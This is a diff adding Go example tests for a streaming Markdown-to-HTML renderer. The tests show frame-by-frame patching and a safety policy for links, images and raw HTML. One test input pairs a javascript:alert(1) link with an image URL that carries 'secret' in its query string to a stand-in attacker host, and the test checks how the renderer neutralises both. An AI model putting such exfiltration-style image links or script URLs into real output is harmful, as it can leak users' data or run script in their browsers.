@@ -1,0 +1,48 @@
+package render_test
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/trickle-dev/trickle/render"
+)
+
+// A Document turns the growing answer into two patches per frame: HTML to
+// append once (blocks that can no longer change) and HTML that replaces the
+// live tail.
+func ExampleDocument() {
+	doc := render.NewDocument()
+	var page strings.Builder // what the DOM holds before the live tail
+
+	for _, text := range []string{
+		"# Plan\n\nFirst, mea",
+		"# Plan\n\nFirst, measure.\n\n- profile",
+		"# Plan\n\nFirst, measure.\n\n- profile\n- fix the hot path\n",
+	} {
+		f := doc.Update(text)
+		page.WriteString(f.Append)
+		fmt.Printf("append %q\ntail   %q\n", f.Append, f.Tail)
+	}
+	f := doc.Finish()
+	page.WriteString(f.Append)
+	fmt.Printf("final  %q\n", f.Append)
+	fmt.Println(page.String() == render.Convert("# Plan\n\nFirst, measure.\n\n- profile\n- fix the hot path\n"))
+	// Output:
+	// append "<h1>Plan</h1>\n"
+	// tail   "<p>First, mea</p>\n"
+	// append "<p>First, measure.</p>\n"
+	// tail   "<ul>\n<li>profile</li>\n</ul>\n"
+	// append ""
+	// tail   "<ul>\n<li>profile</li>\n<li>fix the hot path</li>\n</ul>\n"
+	// final  "<ul>\n<li>profile</li>\n<li>fix the hot path</li>\n</ul>\n"
+	// true
+}
+
+// Convert renders in one go, with the same configuration and safety policy:
+// raw HTML is omitted, unsafe links become text, third-party images become
+// links.
+func ExampleConvert() {
+	fmt.Print(render.Convert("[x](javascript:alert(1)) ![chart](https://evil.example/c.png?q=secret) <b>hi</b>"))
+	// Output:
+	// <p>x <a href="https://evil.example/c.png?q=secret" rel="noopener noreferrer nofollow ugc">chart</a> <!-- raw HTML omitted -->hi<!-- raw HTML omitted --></p>
+}
